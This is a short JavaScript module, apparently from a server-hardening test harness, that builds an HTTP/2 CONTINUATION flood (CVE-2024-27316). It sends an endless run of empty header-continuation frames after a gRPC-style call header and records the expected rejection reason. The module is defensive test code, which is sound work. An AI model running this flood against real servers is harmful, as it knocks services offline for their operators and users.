import * as wire from '../http2/wire.js';
import { header } from './call.js';
import { flood } from './flood.js';

const beginning = wire.frame(wire.HEADERS, 0, 3, Buffer.alloc(0));
const continuation = wire.frame(wire.CONTINUATION, 0, 3, Buffer.alloc(0));

/** CVE-2024-27316 and its kin: a header block that never ends, in frames that cost nothing. */
export const attack = {
  ...flood('CONTINUATION flood', continuation, { first: Buffer.concat([header(1, 'FullDuplexCall'), beginning]) }),
  reason: 'a header block in over 64 frames',
};
